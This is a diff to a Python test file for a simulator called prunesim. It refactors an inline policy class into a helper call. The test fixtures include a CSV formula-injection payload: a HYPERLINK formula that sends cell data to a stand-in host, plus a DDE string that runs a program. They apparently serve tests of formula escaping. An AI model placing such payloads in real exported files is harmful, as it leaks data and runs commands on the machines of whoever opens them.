@@ -18,6 +18,7 @@ import pytest
 from cli_capture import cli
 from hypothesis import given
 from hypothesis import strategies as st
+from policy_files import evicting
 from prunesim import api
 from prunesim.io import atomic, sweep_files
 from prunesim.io.transcripts.keys import command_key
@@ -30,21 +31,7 @@ ROOT = Path(__file__).resolve().parents[1]
 COMMAND = '=HYPERLINK("http://example.invalid/?leak=" & A1, "ok")'
 KEY = command_key(COMMAND)  # the content key trace.csv holds: the command, normalized
 REASON = "=cmd|' /C calc'!A0"
-POLICY = f'''
-from prunesim.policies import Policy
-from prunesim.policies.base import Evict
-
-
-class Hostile(Policy):
-    name = "hostile"
-    summary = "evicts the oldest tool output past the trigger, for a reason that is a formula"
-
-    def decide(self, view):
-        if view.utilization < self.scenario.trigger:
-            return []
-        outputs = [s.id for s in view.spans if s.kind == "tool_output" and s.offerable]
-        return [Evict((outputs[0],), reason={REASON!r})] if outputs else []
-'''
+POLICY = evicting("Hostile", "hostile", chosen="outputs[:1]", reason=REASON)
 
 
 def _formula_start(cell: str) -> bool:
